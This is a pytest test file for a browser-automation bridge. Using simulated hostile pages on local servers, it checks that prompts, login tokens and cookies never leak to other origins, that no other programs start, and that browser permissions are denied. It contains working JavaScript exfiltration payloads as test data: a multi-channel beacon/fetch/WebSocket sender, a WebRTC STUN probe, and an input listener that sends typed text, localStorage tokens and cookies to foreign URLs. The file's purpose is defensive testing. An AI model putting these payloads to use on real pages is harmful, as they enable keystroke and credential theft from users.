"""A page that is not to be trusted: it goes to other origins, and tries to get its prompts and logins out."""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest
from loguru import logger
from openai import APIStatusError
from playwright.async_api import Error as PlaywrightError

from bridge.browser.browser import Chromium
from bridge.errors import BridgeError
from bridge.settings import BrowserSettings
from bridge.sites.contract import LeftSite
from bridge.telemetry import Telemetry, WorkerState
from bridge.worker.page_session import Session
from tests.sites.test_driver_live import answer_to
from tests.support.hostile import (
    COOKIE,
    GREEDY,
    HANG,
    STORMS,
    TOKEN,
    HostileSite,
    Packets,
    Run,
    bridge_to,
    cautious_settings,
    comes_back,
    foreign_origins,
    hostile_site,
    login_of,
    page_of,
    states,
)
from tests.support.live import settings_for
from tests.support.stress import stress
from tests.support.waiting import LIMIT, until

PROMPT = "wq83hfkz0alx92mvnt6yrueo the quick brown fox keeps this for itself 71bd5c09aa4e"
SENDS_NOTHING = "addEventListener('keydown', event => event.stopPropagation(), true);"
"""Lets no key reach the text box, also one that the page makes anew."""
CONNECT = """async port => {
  const servers = [`stun:127.0.0.1:${port}`, `stun:localhost:${port}`];
  const [one, other] = [0, 1].map(() => new RTCPeerConnection({iceServers: [{urls: servers}]}));
  one.createDataChannel("x");
  await one.setLocalDescription(await one.createOffer());
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  await one.setRemoteDescription(other.localDescription);
  const candidate = `candidate:1 1 udp 2113937151 127.0.0.1 ${port} typ host`;
  for (const peer of [one, other]) await peer.addIceCandidate({candidate, sdpMLineIndex: 0});
  await new Promise(done => setTimeout(done, 1500));
}"""


@dataclass(frozen=True)
class Page:
    """The account's page, and the site that serves it."""

    site: HostileSite
    session: Session


@asynccontextmanager
async def packets() -> AsyncGenerator[tuple[int, list[bytes]]]:
    """Listen for UDP on a port of this machine, and yield that and what comes."""
    received: list[bytes] = []
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(lambda: Packets(received), local_addr=("127.0.0.1", 0))
    yield transport.get_extra_info("sockname")[1], received
    transport.close()


@pytest.fixture(scope="module")
async def shared(tmp_path_factory: pytest.TempPathFactory, full_chromium: Chromium) -> AsyncGenerator[Run]:
    """The bridge of the tests that need no settings of their own, and leave an account that answers."""
    async with hostile_site() as site, bridge_to(tmp_path_factory.mktemp("shared"), full_chromium, site) as run:
        yield run


@pytest.fixture
async def run(shared: Run) -> Run:
    await shared.start_over()
    return shared


async def test_a_page_that_leaves_the_site_is_lost_and_opened_anew(run: Run) -> None:
    async with foreign_origins() as (foreign, _):
        seen = len(run.facts.seen)
        await run.site.order(f"location = '{foreign.url}'")
        lost = await run.facts.state("alice", WorkerState.BROKEN, seen)
        assert f"has left the site for {foreign.url}" in lost.reason
        await run.facts.state("alice", WorkerState.READY, seen)
        assert await run.ask(PROMPT) == answer_to(PROMPT)
        assert foreign.asked.is_set()
        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []


@pytest.mark.parametrize(
    "moment",
    [
        "addEventListener('input', () => { location = '%s'; }, {once: true, capture: true});",
        "addEventListener('keydown', () => { location = '%s'; }, {once: true, capture: true});",
        "setTimeout(() => { location = '%s'; }, 10);",
    ],
    ids=["when it is filled", "when the key comes", "at some moment"],
)
async def test_a_page_that_leaves_the_site_in_mid_prompt_takes_no_byte_of_it_along(run: Run, moment: str) -> None:
    async with foreign_origins() as (foreign, _):
        await run.site.order(f"{moment % foreign.url} {SENDS_NOTHING}")
        seen = len(run.facts.seen)
        # nothing was sent, so the page opened anew gets it; unless the timer came after the send
        allowed = {answer_to(PROMPT), *(["502"] if "setTimeout" in moment else [])}
        assert await answer_or_status(run, PROMPT) in allowed
        async with asyncio.timeout(LIMIT):
            await foreign.asked.wait()
        await run.facts.state("alice", WorkerState.BROKEN, seen)
        assert len(run.site.received) == 1
        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []


async def answer_or_status(run: Run, prompt: str) -> str:
    try:
        return await run.ask(prompt)
    except APIStatusError as error:
        return str(error.status_code)


async def test_an_answer_ends_with_the_document_that_asked_for_it_and_the_account_stays(run: Run) -> None:
    before = states(run.facts)
    run.site.on_prompt = "location = 'http://localhost:1/'"
    with pytest.raises(APIStatusError) as refused:
        await run.ask(PROMPT)
    assert refused.value.status_code == 502
    assert "cannot be reached" in refused.value.message
    run.site.on_prompt = ""
    assert await run.ask(PROMPT) == answer_to(PROMPT)
    assert states(run.facts) == before


async def test_a_site_that_leads_to_another_one_needs_a_person_and_is_not_asked_again_and_again(
    tmp_path: Path, full_chromium: Chromium
) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site:
        site.leads_to = foreign.url
        async with bridge_to(tmp_path, full_chromium, site, WorkerState.CHALLENGED) as run:
            assert states(run.facts) == [WorkerState.CHALLENGED]
            assert site.loads == 1
            with pytest.raises(APIStatusError, match="leads to"):
                await run.ask(PROMPT)
        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []


async def test_a_site_that_leads_to_anothers_sign_in_is_one_to_log_in_to(
    tmp_path: Path, full_chromium: Chromium
) -> None:
    async with foreign_origins() as (foreign, _), hostile_site() as site:
        site.leads_to = f"{foreign.url}/oauth/login?back=1"
        async with bridge_to(tmp_path, full_chromium, site, WorkerState.LOGGED_OUT) as run:
            assert states(run.facts) == [WorkerState.LOGGED_OUT]


async def test_a_page_that_leaves_the_site_each_time_is_left_alone_after_the_third(
    tmp_path: Path, full_chromium: Chromium
) -> None:
    async with (
        foreign_origins() as (foreign, _),
        hostile_site() as site,
        bridge_to(tmp_path, full_chromium, site) as run,
    ):
        site.on_load = f"setTimeout(() => {{ location = '{foreign.url}'; }}, 1500);"
        await site.order("location.reload()")
        await run.facts.state("alice", WorkerState.CHALLENGED)
        assert states(run.facts).count(WorkerState.BROKEN) == 2
        assert foreign.pieces_of(TOKEN, COOKIE) == []


@pytest.fixture(scope="module")
async def shown(tmp_path_factory: pytest.TempPathFactory, full_chromium: Chromium) -> AsyncGenerator[Page]:
    """The page of the tests that need no bridge."""
    folder = tmp_path_factory.mktemp("shown")
    async with hostile_site() as site, page_of(folder, full_chromium, site) as session:
        yield Page(site, session)


@pytest.fixture
async def page(shown: Page) -> Page:
    await shown.session.page.goto(shown.site.url)
    return shown


async def test_nothing_of_another_origin_gets_into_the_profile(page: Page) -> None:
    site, session = page.site, page.session
    async with foreign_origins() as (foreign, _):
        await session.page.goto(foreign.url)
        with pytest.raises(LeftSite):
            await session.capture(login_of(site), LIMIT)
        await session.page.goto(site.url)
        captured = await session.capture(login_of(site), LIMIT)
        assert [one["origin"] for one in captured.storage_state["origins"]] == [site.url]
        assert [cookie["domain"] for cookie in captured.storage_state["cookies"]] == ["127.0.0.1"]
        assert set(captured.session_storage) == {site.url}


async def test_a_password_is_not_typed_into_another_origins_form(page: Page) -> None:
    async with foreign_origins() as (foreign, _):
        await page.session.page.goto(foreign.url)
        with pytest.raises(BridgeError, match="has left the site"):
            await page.session.driver.sign_in("somebody@example.com", PROMPT)
        assert foreign.pieces_of(PROMPT, "somebody@example.com") == []


async def test_no_process_of_the_browser_listens_on_a_port(run: Run, full_chromium: Chromium) -> None:
    assert await run.ask("hello") == answer_to("hello")
    processes = [psutil.Process(pid) for _, pid in await full_chromium.processes()]
    assert len(processes) > 2
    assert [one for each in processes for one in each.net_connections("tcp") if one.status == "LISTEN"] == []
    switches = {word.partition("=")[0] for each in processes for word in each.cmdline()}
    assert "--remote-debugging-pipe" in switches
    assert "--remote-debugging-port" not in switches


REACH = """async ([url, secret]) => {
  const settled = work => Promise.race([work, new Promise(done => setTimeout(done, 3000))]).catch(() => null);
  const loads = element => new Promise(done => {
    element.onload = element.onerror = done;
    document.body.append(element);
  });
  const made = (name, more) => Object.assign(document.createElement(name), more);
  const socket = new WebSocket(url.replace("http", "ws") + "/?" + secret);
  const sent = `{method: "POST", body: "${secret}", mode: "no-cors"}`;
  const worker = `fetch("${url}/worker", ${sent}).finally(() => postMessage(1))`;
  const thread = new Worker(URL.createObjectURL(new Blob([worker])));
  navigator.sendBeacon(url + "/beacon", secret);
  await Promise.all([
    fetch(url, {method: "POST", body: secret, mode: "no-cors"}),
    fetch(url + "/?" + secret, {headers: {authorization: secret}}),
    loads(made("img", {src: `${url}/picture?${secret}`})),
    loads(made("script", {src: `${url}/script?${secret}`})),
    loads(made("iframe", {src: `${url}/frame?${secret}`})),
    loads(made("link", {rel: "stylesheet", href: `${url}/style?${secret}`})),
    new Promise(done => { socket.onclose = done; }),
    new Promise(done => { thread.onmessage = done; }),
  ].map(settled));
}"""


@pytest.mark.parametrize("keeps_folder", [False, True])
async def test_no_byte_of_a_page_reaches_this_machine_beside_the_site_itself(
    tmp_path: Path, full_chromium: Chromium, keeps_folder: bool
) -> None:
    browser = BrowserSettings(check_every=0.5, call_limit=5)
    settings = cautious_settings(tmp_path, browser=browser)
    async with foreign_origins() as (one, other), hostile_site() as site, packets() as (port, received):
        profile = login_of(site)
        if keeps_folder:  # its browser gets the bounds at its start, and not with a context
            profile = profile.model_copy(update={"user_data_dir": "alice-1"})
            (settings.folders.browsers / "alice-1").mkdir(parents=True)
        own = Chromium(settings.pages, Telemetry())
        chromium = own if keeps_folder else full_chromium
        async with page_of(tmp_path, chromium, site, profile, browser=browser) as session:
            for url in (one.url, other.url, one.url.replace("localhost", "127.0.0.1")):
                await session.page.evaluate(REACH, [url, PROMPT.replace(" ", "-")])
            await session.page.evaluate(CONNECT, port)
            with pytest.raises(PlaywrightError, match="net::"):
                await session.page.goto(f"{one.url}/?{PROMPT}")
        await own.close()
        assert (one.connections, other.connections, received) == (0, 0, [])


async def test_windows_that_a_page_opens_are_closed_and_downloads_refused(page: Page) -> None:
    session = page.session
    await session.page.evaluate("() => { for (let n = 0; n < 5; n++) window.open('/?' + n); }")
    async with session.page.expect_download() as downloading:
        await session.page.evaluate(
            "() => Object.assign(document.createElement('a'), {href: '/big', download: 'big'}).click()"
        )
    assert await (await downloading.value).failure() is not None
    await until(lambda: session.context.pages == [session.page])


@pytest.mark.stress
async def test_no_packet_of_webrtc_reaches_this_machine_where_hosts_are_named(
    tmp_path: Path, full_chromium: Chromium
) -> None:
    browser = BrowserSettings(hosts="named")
    async with (
        packets() as (port, received),
        hostile_site() as site,
        page_of(tmp_path, full_chromium, site, browser=browser) as session,
    ):
        await session.page.evaluate(CONNECT, port)
    assert received == []


@pytest.mark.browser
async def test_a_proxy_of_the_operators_own_is_said_to_decide_what_pages_reach(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
    lines: list[str] = []
    sink = logger.add(lines.append, level="WARNING", format="{message}")
    own = Chromium(settings_for(tmp_path, browser=BrowserSettings()).pages, Telemetry())
    try:
        for _ in range(2):
            async with own.context({}):
                pass
    finally:
        logger.remove(sink)
        await own.close()
    (said,) = [line for line in lines if "proxy" in line]
    assert "browser.hosts has no effect" in said


@dataclass(frozen=True)
class Machine:
    """A browser on a machine that has a camera, and programs for mail, calls and the like."""

    chromium: Chromium
    trace: Path
    """Where the programs write down that they were started."""


@pytest.fixture(scope="module")
async def machine(tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[Machine]:
    folder = tmp_path_factory.mktemp("machine")
    trace = folder / "trace"
    for name in ("xdg-open", "xdg-email"):
        program = folder / "bin" / name
        program.parent.mkdir(exist_ok=True)
        program.write_text(f"#!/bin/sh\necho $0 $@ >> {trace}\n")
        program.chmod(0o700)
    browser = BrowserSettings(args=("--use-fake-device-for-media-stream",), call_limit=5)
    own = Chromium(settings_for(folder, browser=browser).pages, Telemetry())
    with pytest.MonkeyPatch.context() as patched:
        patched.setenv("PATH", f"{folder / 'bin'}:{os.environ['PATH']}")
        async with own.context({}):  # starts it
            pass
    yield Machine(own, trace)
    await own.close()


@pytest.mark.browser
@pytest.mark.skipif(sys.platform != "linux", reason="other systems start programs in other ways")
async def test_a_page_starts_no_other_program(tmp_path: Path, machine: Machine) -> None:
    async with hostile_site() as site, bridge_to(tmp_path, machine.chromium, site) as run:
        for scheme in ("mailto:a@example.com", "tel:1", "vscode://x"):
            await site.order(f"location = '{scheme}'; setTimeout(() => fetch('/went'), 1500)")
            await until(lambda: "/went" in site.paths)
            site.paths.clear()
            site.listening.set()
        assert await run.ask("hello") == answer_to("hello")
    browser = dict(await machine.chromium.processes())["browser"]
    assert psutil.Process(browser).environ()["PATH"].startswith(f"{machine.trace.parent}")
    assert not machine.trace.exists(), machine.trace.read_text()


PERMISSIONS = {
    "place": "new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))",
    "notifications": "Notification.requestPermission().then(how => how === 'granted' || Promise.reject(how))",
    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "microphone": "navigator.mediaDevices.getUserMedia({audio: true})",
    "clipboard": "navigator.clipboard.readText()",
    "midi": "navigator.requestMIDIAccess()",
    "fonts": "queryLocalFonts().then(found => found.length || Promise.reject())",
    "files": "showOpenFilePicker()",
    "folders": "showDirectoryPicker()",
    "screens": "getScreenDetails()",
    "storage for ever": "navigator.storage.persist().then(how => how || Promise.reject())",
}


@pytest.mark.browser
async def test_what_a_person_would_have_to_allow_is_denied(tmp_path: Path, machine: Machine) -> None:
    async with hostile_site() as site, page_of(tmp_path, machine.chromium, site) as session:
        for what, asking in PERMISSIONS.items():
            async with asyncio.timeout(LIMIT):
                got = await session.page.evaluate(f"() => {asking}.then(() => 'granted', () => 'denied')")
            assert got == "denied", what


@pytest.mark.parametrize("storms", [(HANG,), *stress(((*STORMS, GREEDY),))])
async def test_a_page_that_does_all_of_it_with_what_is_typed_gets_no_byte_out_and_hurts_no_later_chat(
    tmp_path: Path, full_chromium: Chromium, storms: tuple[str, ...]
) -> None:
    browser = BrowserSettings(check_every=0.5, call_limit=5)
    async with foreign_origins() as (foreign, other), hostile_site() as site, packets() as (port, received):
        site.on_load = f"""addEventListener("input", event => {{
          const secret = encodeURIComponent(event.target.value + localStorage.userToken + document.cookie);
          for (const url of ["{foreign.url}", "{other.url.replace("localhost", "127.0.0.1")}"]) {{
            ({REACH})([url, secret]);
            open(url + "/?" + secret);
            open("/window");
            fetch("/leads?to=" + url, {{method: "POST", body: secret}});
          }}
          ({CONNECT})({port});
        }}, true);"""
        async with bridge_to(tmp_path, full_chromium, site, browser=browser) as run:
            for act in ("1", f"location = '{foreign.url}/?' + localStorage.userToken", *storms):
                site.during = act
                with suppress(APIStatusError):
                    assert await run.ask(PROMPT) == answer_to(PROMPT)
            site.on_load = site.during = ""
            await site.order("location.reload()")
            await comes_back(run)
        assert len(site.received) >= 3
        assert (foreign.pieces_of(PROMPT, TOKEN, COOKIE), other.pieces_of(PROMPT, TOKEN, COOKIE)) == ([], [])
        assert (foreign.connections, other.connections, received) == (0, 0, [])
